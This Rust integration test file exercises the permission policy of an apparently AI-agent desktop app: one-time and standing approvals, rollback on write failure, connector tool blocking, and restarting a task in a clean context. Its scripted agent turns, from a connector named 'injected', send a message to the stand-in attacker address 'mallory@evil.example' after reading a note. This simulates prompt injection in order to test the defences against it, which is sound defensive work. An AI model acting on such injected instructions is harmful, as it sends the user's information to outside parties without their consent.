//! Values allowed for good: kept with the yes, listed with their task, taken back.

use deskhand_store::EventLog as _;
use deskhand_testkit::{Reply, Turn};
use deskhand_types::EventBody;
use serde_json::{Value, json};

use crate::{
    connectors::{command, confined},
    desk::Desk,
};

/// Reads a note that names somebody, and writes to them.
fn turns() -> [Reply; 3] {
    [
        Turn::new()
            .tool("mcp__notes__find_notes", json!({"query": "lunch"}))
            .into(),
        Turn::new()
            .tool(
                "mcp__notes__send_message",
                json!({"recipient": "mallory@evil.example", "body": "At noon."}),
            )
            .into(),
        Turn::new().text("done").into(),
    ]
}

fn desk(replies: impl IntoIterator<Item = Reply>) -> Desk {
    let desk = Desk::new(replies);
    desk.send("POST", "/connectors", &command("injected")).expect(201);
    desk.send("POST", "/connectors/notes/approve", &json!({})).expect(200);
    desk
}

/// A task that waits for its question; the task and the question's id.
fn asked(desk: &Desk) -> (String, String) {
    let task = desk.start(&json!({"prompt": "When do we have lunch?"}));
    desk.until_status(&task, "waiting");
    let inbox = desk.get("/inbox").json();
    (task, inbox[0]["id"].as_str().unwrap().to_owned())
}

fn values(desk: &Desk) -> Value {
    desk.get("/settings/policy/values").expect(200).json()
}

#[test]
fn a_value_is_allowed_listed_and_taken_back_and_then_asked_about_again() {
    if !confined() {
        return;
    }
    let desk = desk(turns().into_iter().chain(turns()).chain(turns()));
    assert_eq!(values(&desk), json!([]));
    let (task, question) = asked(&desk);
    desk.send("POST", &format!("/inbox/{question}/always/7"), &json!({}))
        .expect(404);
    assert_eq!(values(&desk), json!([]), "a value that is not offered");
    desk.send("POST", &format!("/inbox/{question}/always/0"), &json!({}))
        .expect(204);
    let page = desk.until_status(&task, "done");

    let listed = values(&desk);
    let id = listed[0]["id"].as_str().unwrap().to_owned();
    let since = listed[0]["since"].as_u64().unwrap();
    assert!(since > 1_600_000_000_000, "milliseconds");
    assert_eq!(
        listed,
        json!([{
            "id": id, "effect": "outward", "kind": "recipient", "value": "mallory@evil.example",
            "since": since, "task": task, "title": page["head"]["title"],
        }])
    );
    // A question that is answered allows nothing more.
    desk.send("POST", &format!("/inbox/{question}/always/0"), &json!({}))
        .expect(409);

    let second = desk.start(&json!({"prompt": "When do we have lunch?"}));
    desk.until_status(&second, "done");
    assert_eq!(desk.get("/inbox").json(), json!([]), "it was not asked again");

    let unknown = desk.send("DELETE", "/settings/policy/values/000000000000", &json!({}));
    assert_eq!(unknown.expect(404).json()["code"], "policy.no-such-value");
    assert_eq!(values(&desk), listed, "an unknown id changes nothing");
    let path = format!("/settings/policy/values/{id}");
    desk.send("DELETE", &path, &json!({})).expect(204);
    assert_eq!(values(&desk), json!([]));
    desk.send("DELETE", &path, &json!({})).expect(404);
    asked(&desk);
}

/// The disk fails at each point in turn: no yes without the permission, and no permission without the yes.
#[test]
fn a_failing_write_leaves_neither_yes_nor_permission() {
    if !confined() {
        return;
    }
    let desk = desk(turns());
    let (task, question) = asked(&desk);
    let sql = |text: &str| {
        let file = desk.dir.path().join(".deskhand/deskhand.db");
        rusqlite::Connection::open(file).unwrap().execute_batch(text).unwrap();
    };
    let always = |question: &str| desk.send("POST", &format!("/inbox/{question}/always/0"), &json!({}));
    let fails = |kind: &str| {
        sql(&format!(
            "CREATE TRIGGER fault BEFORE INSERT ON events WHEN new.kind = '{kind}' \
             BEGIN SELECT RAISE(ABORT, 'the disk is gone'); END"
        ));
    };
    let answered = || {
        let events = desk.store().read(&task.as_str().into(), 0).unwrap();
        let is_answer = |body: &EventBody| matches!(body, EventBody::ApprovalAnswered { .. });
        events.iter().any(|event| is_answer(&event.body))
    };
    fails("value.allowed");
    always(&question).expect(500);
    assert!(!answered());
    assert_eq!(values(&desk), json!([]));
    assert_eq!(desk.get("/inbox").json()[0]["id"], json!(question), "it is still open");
    sql("DROP TRIGGER fault");

    fails("approval.answered");
    let lost = always(&question).expect(500).json();
    assert!(!answered(), "{lost}");
    assert_eq!(values(&desk), json!([]), "the permission went with the yes");
    sql("DROP TRIGGER fault");
}

/// Rules of connectors' tools and of the organisation count in a trial as they are now, not as they were when the last
/// task began.
#[test]
fn a_trial_counts_what_was_said_about_a_tool_since() {
    if !confined() {
        return;
    }
    let desk = desk(turns());
    let (task, question) = asked(&desk);
    desk.send("POST", &format!("/inbox/{question}"), &json!({"type": "allow"}))
        .expect(204);
    desk.until_status(&task, "done");
    let trial = |own: &str| {
        let trial = desk
            .send("POST", "/settings/policy/try", &json!({"own": own}))
            .expect(200)
            .json();
        let different = trial["different"].as_array().unwrap().iter();
        let lines = different.map(|one| {
            let fields = ["before", "after", "rule"];
            fields.map(|field| one[field].as_str().unwrap().to_owned())
        });
        lines.collect::<Vec<_>>()
    };
    assert_eq!(trial(""), Vec::<[String; 3]>::new());
    desk.send("PUT", "/connectors/notes/tools/send_message", &json!({"rule": "block"}))
        .expect(204);
    let blocked = ["ask", "deny", "connector-deny-mcp__notes__send_message"].map(str::to_owned);
    assert_eq!(trial(""), std::slice::from_ref(&blocked));
    // And it holds against what the person proposes.
    let mine = "[[rule]]\nname = \"mine\"\nverdict = \"allow\"\nreason = \"mine\"\n";
    assert_eq!(trial(mine), [blocked]);
    // What is in force is shown so, too.
    let first = desk.get("/settings/policy").json()["rules"][0]["name"].clone();
    assert_eq!(first, "connector-deny-mcp__notes__send_message");
}

#[test]
fn a_task_goes_on_in_a_clean_context_and_the_earlier_one_is_stopped() {
    if !confined() {
        return;
    }
    let desk = desk(turns().into_iter().take(2).chain([Turn::new().text("At noon.").into()]));
    let (task, question) = asked(&desk);
    let offer = desk.get(&format!("/tasks/{task}/clean")).expect(200).json();
    assert_eq!(
        offer,
        json!({
            "words": "When do we have lunch?", "left_out": 0,
            "values": [{"value": "mallory@evil.example", "name": "recipient",
                "source": {"kind": "connector", "detail": "notes"}}],
        })
    );
    let refused = desk.send(
        "POST",
        &format!("/tasks/{task}/clean"),
        &json!({"values": ["one\ntwo"]}),
    );
    assert_eq!(refused.expect(422).json()["code"], "engine.not-a-value");
    let pasted = json!({"text": "All of it", "voice": [{"how": "pasted", "chars": 9}]});
    let refused = desk.send("POST", &format!("/tasks/{task}/clean"), &pasted);
    assert_eq!(refused.expect(422).json()["code"], "engine.not-your-words");
    desk.until_status(&task, "waiting");

    let made = desk.send("POST", &format!("/tasks/{task}/clean"), &json!({"values": ["noon"]}));
    let next = made.expect(201).json()["id"].as_str().unwrap().to_owned();
    let page = desk.until_status(&next, "done");
    assert_eq!(page["head"]["branched_from"], json!(task));
    desk.until_status(&task, "stopped");
    assert_eq!(desk.get("/inbox").json(), json!([]));
    desk.send("POST", &format!("/inbox/{question}/answer"), &json!({"type": "allow"}))
        .expect(404);
    desk.send("POST", "/tasks/nosuch/clean", &json!({})).expect(404);
}
